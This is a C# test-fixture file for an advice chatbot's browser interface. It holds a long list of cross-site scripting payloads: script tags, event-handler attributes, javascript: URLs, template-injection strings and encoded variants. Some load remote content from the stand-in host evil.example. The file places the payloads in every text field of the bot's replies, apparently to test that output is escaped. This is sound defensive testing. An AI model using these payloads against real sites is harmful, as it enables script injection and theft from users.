using System.Collections.Immutable;
using AdviceBot.Core;
using AdviceBot.Core.Content;
using AdviceBot.Core.Signposting;
using AdviceBot.Host.Content;

namespace AdviceBot.Browser;

/// <summary>Code written where words belong, and replies that have it in every place where words stand.</summary>
internal static class Payloads
{
    /// <summary>Names of attributes that would run code.</summary>
    public static readonly string[] Handlers = ["onload", "onerror", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerenter"];

    /// <summary>The ways to write it.</summary>
    public static readonly string[] All =
    [
        "<script>hit()</script>", "<script src=//evil.example/x.js></script>", "</script><script>hit()</script>", "<scr<script>ipt>hit()</scr</script>ipt>",
        "<img src=x onerror=hit()>", "\"><img src=x onerror=hit()>", "'><img src=x onerror='hit()'>", "<img src=//evil.example/x>", "<img/src=x/onerror=hit()>",
        "<svg onload=hit()>", "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'>",
        "<math><mtext><img src=x onerror=hit()></mtext></math>", "<iframe src=javascript:hit()>", "<iframe srcdoc='<script>parent.hit()</script>'>", "<object data=javascript:hit()>",
        "<embed src=//evil.example/x>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<form action=//evil.example><button>x", "<input autofocus onfocus=hit()>", "<button formaction=//evil.example>x</button>", "<details open ontoggle=hit()>", "<video src=//evil.example/x onerror=hit()>",
        "<style>@import '//evil.example/x.css'</style>", "<style>*{background:url(//evil.example/x)}</style>", "<a href=javascript:hit()>x</a>", "<template><script>hit()</script></template>",
        "</textarea><script>hit()</script>", "</title><script>hit()</script>", "</style><script>hit()</script>", "</noscript><script>hit()</script>", "--><script>hit()</script>", "]]><script>hit()</script>",
        "\" autofocus onfocus=hit() x=\"", "' autofocus onfocus=hit() x='", "\" style=\"background:url(//evil.example/x)\" x=\"", "` onmouseover=hit()",
        "javascript:hit()", "data:text/html,<script>hit()</script>", "[x](javascript:hit())", "![x](//evil.example/x.png)", "<javascript:hit()>", "[x]: javascript:hit()",
        "{{constructor.constructor('hit()')()}}", "${hit()}", "#{hit()}", "<%= hit() %>", "@(hit())", "@Html.Raw(\"<script>hit()</script>\")",
        "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()&#60;/script&#62;", "\u003cscript\u003ehit()\u003c/script\u003e", "%3Cscript%3Ehit()%3C/script%3E", "\uFF1Cscript\uFF1Ehit()\uFF1C/script\uFF1E",
        "\0<script>hit()</script>", "\u2028<script>hit()</script>", "<x contenteditable onblur=hit()>x</x>", "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">",
    ];

    /// <summary>Each in each place of what the bot says, but for the card.</summary>
    public static ImmutableArray<Reply> Replies(Library library)
    {
        string all = string.Join(' ', All);
        ImmutableArray<HelperNow> people = People(library);
        ImmutableArray<Point> points = [.. All.Select(p => new Point(p, [], Status.Published))];
        ImmutableArray<Button> buttons = [.. All.Select(p => new Button(p, p))];
        return
        [
            new Reply.Said("x", all),
            new Reply.Gentle("D1", "danger-now", all, people[0]),
            new Reply.Answer(all, Passages(library), [.. All, "script", "hit"]),
            new Reply.Offer(all, [.. All.Select(p => new Offered(p, p))]),
            new Reply.Ending("CF-1", all, all, points, points, [.. All.Select(p => new AskWhom(p, p, points[..2]))], points),
            new Reply.Helpers(people),
            new Reply.Question("guard/who", all, all, buttons, buttons, buttons, [.. All.Select((p, i) => new PathEntry(i, "guard/who", p, p))], false, All[0]),
        ];
    }

    /// <summary>A card of nothing else.</summary>
    public static Reply.Urgent Card(Library library) =>
        new("D1", "danger-now", [.. All.Select(p => new UrgentLine(p, People(library)))], Passages(library), All[4]);

    private static ImmutableArray<Passage> Passages(Library library) => [.. All.Select((p, i) =>
    {
        (string text, string html) = PassageText.Render(p, new Dictionary<string, string>());
        var section = new Section("s", p, new Source("s", p, "Publisher " + p, p));
        return library.Passages[0] with { Id = $"p{i}", Title = p, Text = text, Html = html, Edition = p, Sections = [section] };
    })];

    private static ImmutableArray<HelperNow> People(Library library)
    {
        Helper person = library.Helper(Signposter.AdviceLine)!;
        return [.. All.Select(p => new HelperNow(person with { Name = p, For = p, How = p, Text = "text " + p, CostNote = p, Website = p, Phone = p }, Opening.Unknown, p))];
    }
}
